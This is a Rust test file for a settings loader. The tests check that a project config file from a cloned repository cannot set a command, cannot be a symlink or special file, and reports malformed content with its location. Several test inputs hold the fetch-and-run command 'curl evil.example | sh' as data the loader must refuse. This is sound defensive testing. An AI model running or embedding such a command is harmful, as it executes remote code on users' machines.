//! A project file comes with a cloned repository: untrusted input. It cannot set a command in any of the
//! ways TOML allows writing one, it cannot be a link to a file elsewhere, and a huge, binary, deeply nested
//! or wrongly typed file is an error naming the file (and the line and column where there is one), never a
//! hang, a crash or a value used anyway.

#![allow(clippy::disallowed_methods, clippy::too_many_lines)] // tests may use std::fs and be long

use std::path::PathBuf;

use amplify_settings::{Inputs, Key, Scope, Settings, SettingsError, SettingsFile};

struct Project {
    dir: tempfile::TempDir,
    file: PathBuf,
}

fn project(text: &str) -> Project {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("myapp/amplify-rs.toml");
    fs_err::create_dir_all(file.parent().unwrap()).unwrap();
    fs_err::write(&file, text).unwrap();
    Project { dir, file }
}

fn load(project: &Project) -> Result<Settings, SettingsError> {
    Settings::load(&Inputs {
        project_file: Some(project.file.clone()),
        ..Inputs::default()
    })
    .checked()
    .map(|(settings, _)| settings)
}

#[test]
fn a_command_is_refused_however_it_is_written() {
    for (text, line, column) in [
        ("[mfa]\nprocess = \"curl evil.example | sh\"\n", 2, 1),
        ("mfa.process = \"curl evil.example | sh\"\n", 1, 5),
        (
            "# innocent\nmfa = { process = \"curl evil.example | sh\" }\n",
            2,
            9,
        ),
        ("[\"mfa\"]\n'process' = \"curl evil.example | sh\"\n", 2, 1),
        ("[mfa]\nsession = true\n\n[mfa.process]\nx = 1\n", 4, 6),
    ] {
        let p = project(text);
        let error = load(&p).unwrap_err();
        assert_eq!(
            error.to_string(),
            format!(
                "{}:{line}:{column}: mfa.process cannot be set in a project file: it runs a command, and a project file comes with the repository",
                p.file.display()
            ),
            "{text}"
        );
        assert!(error.hint().contains("amplify-rs config set mfa.process"));
        // The same text is the user's own business in the user file (where a table is a wrong type).
        let user = SettingsFile::from_text(&p.file, Scope::User, text)
            .reading()
            .unwrap();
        if text.contains("[mfa.process]") {
            assert_eq!(
                user.errors[0].to_string(),
                format!(
                    "{}:4:1: mfa.process must be a command, as a string, not a table",
                    p.file.display()
                )
            );
        } else {
            assert_eq!(user.values[0].0, Key::MfaProcess, "{text}");
        }
    }
}

#[test]
fn a_project_file_that_links_elsewhere_is_refused() {
    let p = project("");
    let outside = p.dir.path().join("outside.toml");
    fs_err::write(&outside, "[mfa]\nsession = true\n").unwrap();
    fs_err::remove_file(&p.file).unwrap();
    std::os::unix::fs::symlink(&outside, &p.file).unwrap();
    let error = load(&p).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(
            "{} is a symbolic link, and a project's settings file must be a file of the project",
            p.file.display()
        )
    );

    // A link to a device would be an endless read: refused before anything is read.
    fs_err::remove_file(&p.file).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &p.file).unwrap();
    assert!(matches!(
        load(&p).unwrap_err(),
        SettingsError::ProjectFileIsLink { .. }
    ));
}

#[test]
fn huge_binary_and_special_files_are_errors_naming_the_file() {
    let p = project(&format!("# {}\n", "x".repeat(2 << 20)));
    let error = load(&p).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(
            "{} is larger than 1 MiB, more than such a file can hold",
            p.file.display()
        )
    );

    fs_err::write(&p.file, b"[aws]\ntimeout = 3\n\xff\xfe\n").unwrap();
    let error = load(&p).unwrap_err();
    assert_eq!(error.path(), Some(p.file.as_path()), "{error}");

    // A named pipe: opening it would wait for a writer forever.
    fs_err::remove_file(&p.file).unwrap();
    let status = std::process::Command::new("mkfifo")
        .arg(&p.file)
        .status()
        .unwrap();
    assert!(status.success());
    let error = load(&p).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!("{} is not a regular file", p.file.display())
    );
}

#[test]
fn deep_nesting_is_an_error_not_a_crash() {
    for text in [
        format!("a = {}1{}\n", "[".repeat(50_000), "]".repeat(50_000)),
        format!("a = {}1{}\n", "{ b = ".repeat(50_000), " }".repeat(50_000)),
        format!("{} = 1\n", vec!["a"; 100_000].join(".")),
    ] {
        let p = project(&text);
        // Whatever the parser makes of it, it answers: an error naming the file, or an unknown key.
        match load(&p) {
            Err(error) => assert_eq!(error.path(), Some(p.file.as_path()), "{error}"),
            Ok(settings) => assert_eq!(settings, Settings::default()),
        }
    }
}

#[test]
fn wrong_types_are_errors_with_the_place_and_what_is_allowed() {
    let p = project(
        "[aws]\ntimeout = \"30\"\nattempts = 3.0\n\n[mfa]\nsession = \"yes\"\nsession_duration = 60\n\n[ui]\nprogress = 1\ncolor = \"purple\"\n\n[init]\ndefault_profile = 42\n\n[credentials]\nreuse_margin = [600]\n",
    );
    let loaded = Settings::load(&Inputs {
        project_file: Some(p.file.clone()),
        ..Inputs::default()
    });
    let path = p.file.display();
    let errors: Vec<String> = loaded.errors.iter().map(ToString::to_string).collect();
    assert_eq!(
        errors,
        [
            format!(
                "{path}:2:11: aws.timeout must be a number of seconds from 0.1 to 3600, not \"30\" (a string)"
            ),
            format!(
                "{path}:3:12: aws.attempts must be a whole number from 1 to 10, not 3.0 (a number)"
            ),
            format!("{path}:6:11: mfa.session must be true or false, not \"yes\" (a string)"),
            format!(
                "{path}:7:20: mfa.session_duration must be a whole number of seconds from 900 to 129600, not 60 (an integer)"
            ),
            format!("{path}:10:12: ui.progress must be true or false, not 1 (an integer)"),
            format!(
                "{path}:11:9: ui.color must be one of \"auto\", \"always\", \"never\", not \"purple\" (a string)"
            ),
            format!(
                "{path}:14:19: init.default_profile must be a profile name, as a string, not 42 (an integer)"
            ),
            format!(
                "{path}:17:16: credentials.reuse_margin must be a whole number of seconds from 300 to 1800, not [600] (an array)"
            ),
        ]
    );
    assert_eq!(
        loaded.settings,
        Settings::default(),
        "no wrong value is used"
    );
}

#[test]
fn unknown_keys_are_warnings_with_the_setting_meant() {
    let p = project(
        "[aws]\ntimout = 30\n\n[profile]\nmfa_process = \"x\"\n\"aws.timeout\" = 5\namplify_rs_mfa_session = true\n",
    );
    let (settings, warnings) = Settings::load(&Inputs {
        project_file: Some(p.file.clone()),
        ..Inputs::default()
    })
    .checked()
    .unwrap();
    assert_eq!(settings, Settings::default());
    let path = p.file.display();
    let warnings: Vec<String> = warnings.iter().map(ToString::to_string).collect();
    assert_eq!(
        warnings,
        [
            format!("{path}:2:1: unknown setting aws.timout, ignored; did you mean aws.timeout?"),
            format!(
                "{path}:5:1: unknown setting profile.mfa_process, ignored; did you mean mfa.process?"
            ),
            format!(
                "{path}:6:1: unknown setting profile.\"aws.timeout\", ignored; did you mean aws.timeout?"
            ),
            format!(
                "{path}:7:1: unknown setting profile.amplify_rs_mfa_session, ignored; did you mean mfa.session?"
            ),
        ]
    );
}

#[test]
fn a_user_file_that_is_a_link_is_written_where_it_points_and_a_project_link_never() {
    let dir = tempfile::tempdir().unwrap();
    let dotfiles = dir.path().join("dotfiles/amplify-rs.toml");
    let link = dir.path().join("config/amplify-rs/config.toml");
    fs_err::create_dir_all(dotfiles.parent().unwrap()).unwrap();
    fs_err::create_dir_all(link.parent().unwrap()).unwrap();
    fs_err::write(&dotfiles, "# mine\n").unwrap();
    std::os::unix::fs::symlink(&dotfiles, &link).unwrap();

    let mut file = SettingsFile::read(&link, Scope::User).unwrap();
    file.set(Key::AwsAttempts, &amplify_settings::Value::Whole(4))
        .unwrap();
    file.write().unwrap();
    assert!(
        fs_err::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(
        fs_err::read_to_string(&dotfiles).unwrap(),
        "# mine\n[aws]\nattempts = 4\n"
    );

    let error = SettingsFile::read(&link, Scope::Project).unwrap_err();
    assert!(matches!(error, SettingsError::ProjectFileIsLink { .. }));
}
